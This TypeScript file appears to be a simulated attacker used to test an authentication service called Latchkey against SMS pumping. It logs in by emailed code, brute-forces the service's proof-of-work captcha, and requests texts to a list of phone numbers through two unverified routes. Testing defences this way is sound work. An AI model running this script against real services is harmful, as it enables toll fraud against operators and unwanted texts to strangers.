/**
 * An attacker who earns money from texts to rented numbers, or wants to annoy strangers. They create an account by
 * email, solve proofs of work with a program, and have as many numbers texted as the service allows. Imports none
 * of Latchkey's code.
 */
import { pbkdf2Sync } from 'node:crypto';

/** The service that the attacker calls, their mailbox, and the clock. */
export interface SmsPumpTarget {
  readonly url: string;
  readonly appId: string;
  readonly origin: string;
  send(request: Request): Promise<Response>;
  /** Returns the code that was sent to one of the attacker's email addresses. */
  readMail(address: string): string;
  /** Advances the clock. */
  wait(ms: number): void;
}

/** Routes that text a number before the caller has proved that it is theirs. */
export const ways = {
  'a link, an update': { path: '/api/v1/passwordless_sms/init', body: {} },
  'an enrolment': { path: '/api/v1/mfa/passwordless_sms/init', body: { action: 'enroll' } },
} as const;
export type Way = keyof typeof ways;

/** The attacker's use of the app's captcha. */
export type Manner = 'without captchas' | 'with captchas' | 'with one captcha for all';

export interface SendResponse {
  readonly status: number;
  readonly code: string | undefined;
}

/** Creates an account and requests a text message to each number. Returns the response to each request. */
export async function pump(
  target: SmsPumpTarget,
  { email, way, manner, numbers }: { email: string; way: Way; manner: Manner; numbers: readonly string[] },
): Promise<SendResponse[]> {
  const { post, passCaptcha } = createProgram(target);
  const token = await passCaptcha();
  await post('/api/v1/passwordless/init', { email, ...(token ? { token } : {}) });
  const code = target.readMail(email);
  const login = await post('/api/v1/passwordless/authenticate', { email, code });
  const bearer = String(login.json.token);
  const shared = manner === 'with one captcha for all' ? await passCaptcha() : null;
  const answers: SendResponse[] = [];
  for (const phoneNumber of numbers) {
    const passed = manner === 'with captchas' ? await passCaptcha() : shared;
    const { path, body } = ways[way];
    const sent = { ...body, phoneNumber, ...(passed ? { token: passed } : {}) };
    const { status, json } = await post(path, sent, bearer);
    answers.push({ status, code: json.code as string | undefined });
    target.wait(1_000);
  }
  return answers;
}

function createProgram({ appId, origin, send, url }: SmsPumpTarget) {
  async function post(path: string, body: object, bearer?: string) {
    const headers: Record<string, string> = {
      'content-type': 'application/json',
      'privy-app-id': appId,
      origin,
      ...(bearer === undefined ? {} : { authorization: `Bearer ${bearer}` }),
    };
    const response = await send(
      new Request(url + path, { method: 'POST', headers, body: JSON.stringify(body) }),
    );
    return { status: response.status, json: (await response.json()) as Record<string, unknown> };
  }

  /** Returns a token of the service's own captcha; null if the service issues no challenge. */
  async function passCaptcha(): Promise<string | null> {
    const { status, json } = await post('/api/v1/captcha/challenge', { action: 'login' });
    if (status !== 200) return null;
    const { challenge, cost, prefix, range, signature } = json as Record<string, string & number>;
    const start = Buffer.from(String(prefix), 'base64url');
    for (let number = 0; number < Number(range); number += 1) {
      const key = pbkdf2Sync(String(challenge), String(number), Number(cost), 32, 'sha256');
      if (key.subarray(0, start.length).equals(start))
        return `${challenge}.${signature}.${key.toString('base64url')}`;
    }
    return null;
  }

  return { post, passCaptcha };
}
